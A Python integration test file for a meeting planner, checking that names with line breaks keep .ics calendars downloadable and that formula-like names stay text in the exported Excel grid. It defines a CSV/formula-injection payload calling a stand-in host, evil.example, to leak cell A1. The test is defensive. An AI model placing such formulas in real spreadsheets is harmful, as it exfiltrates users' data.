"""An organizer's pages with names typed carelessly or with hostile intent: a line break in a mission or
participant name keeps every calendar downloadable (issue 11, item 4), and a name that reads as a formula
stays text in the grid workbook (item 5)."""

from __future__ import annotations

import io
import json
import time
from typing import Any

import pytest
from icalendar import Calendar
from icalendar.parser import unescape_backslash
from openpyxl import load_workbook

pytestmark = pytest.mark.integration

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def _instance() -> dict[str, Any]:
    return {
        "name": "From the file",
        "slots": [
            {"id": "s1", "day": "2026-03-09", "start": "09:00", "end": "10:00"},
            {"id": "s2", "day": "2026-03-09", "start": "10:30", "end": "11:30"},
        ],
        "venues": [{"id": "tlv", "name": "Tel Aviv Hub", "capacity": 2, "city": "Tel Aviv"}],
        "participants": [
            {"id": "mitsuba", "name": "Mitsuba\r\nMobility \\ R&D; Japan, Inc.", "role": "delegate"},
            {"id": "evil", "name": FORMULA, "role": "delegate"},
            {"id": "roadsense", "name": "+1", "role": "host", "venue": "tlv"},
        ],
        "requests": [
            {"delegate": "mitsuba", "host": "roadsense", "weight": 5, "mandatory": True},
            {"delegate": "evil", "host": "roadsense", "weight": 5, "mandatory": True},
        ],
    }


def _post(client, csrf, path: str, data: dict[str, str], **kwargs: Any):  # type: ignore[no-untyped-def]
    return client.post(
        path, data={**data, "csrf_token": csrf(client, "/missions")}, follow_redirects=False, **kwargs
    )


def _solve(client, csrf, mission_url: str) -> None:
    started = _post(client, csrf, f"{mission_url}/solve", {"time_limit": "2"})
    assert started.status_code == 303
    for _ in range(600):
        poll = client.get(started.headers["location"], headers={"HX-Request": "true"})
        if poll.headers.get("HX-Redirect") or 'data-done="true"' in poll.text:
            assert "error-message" not in poll.text, poll.text
            return
        time.sleep(0.1)
    raise AssertionError("the planner job did not finish")


@pytest.fixture
def mission_url(client, login, csrf) -> str:
    login(client, "organizer")
    imported = _post(
        client,
        csrf,
        "/missions",
        {"name": "Spring\r\nmission \\ 2026; Tel Aviv, Haifa", "timezone": "Asia/Jerusalem"},
        files={"instance_file": ("m.json", json.dumps(_instance()).encode(), "application/json")},
    )
    assert imported.status_code == 303, imported.text
    url = str(imported.headers["location"])
    added = _post(
        client,
        csrf,
        f"{url}/participants",
        {"role": "delegate", "name": "Kuroshio\r\nMarine; 黒潮", "key": "kuroshio"},
    )
    assert added.status_code == 303, added.text
    _solve(client, csrf, url)
    return url


def test_agenda_of_a_participant_named_with_line_breaks_downloads_and_reads_back(client, mission_url) -> None:
    response = client.get(f"{mission_url}/agenda/mitsuba.ics")

    calendar = Calendar.from_ical(response.content)
    assert response.status_code == 200
    assert str(unescape_backslash(str(calendar["X-WR-CALNAME"]))) == (
        "Spring mission \\ 2026; Tel Aviv, Haifa – Mitsuba Mobility \\ R&D; Japan, Inc."
    )
    assert [str(e["SUMMARY"]) for e in calendar.walk("VEVENT")] == ["Meeting: +1"]


def test_a_participant_added_on_the_page_is_stored_on_one_line(client, mission_url) -> None:
    html = client.get(mission_url).text

    assert "Kuroshio Marine; 黒潮" in html
    assert "Kuroshio\r\nMarine" not in html and "Kuroshio\nMarine" not in html


def test_grid_workbook_shows_formula_like_names_as_text(client, mission_url) -> None:
    response = client.get(f"{mission_url}/grid.xlsx")

    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    names = [c for c in cells if c.value in (FORMULA, "+1")]
    assert response.status_code == 200
    assert [c for c in cells if c.data_type == "f"] == []
    assert names != [] and {(c.data_type, c.quotePrefix) for c in names} == {("s", True)}
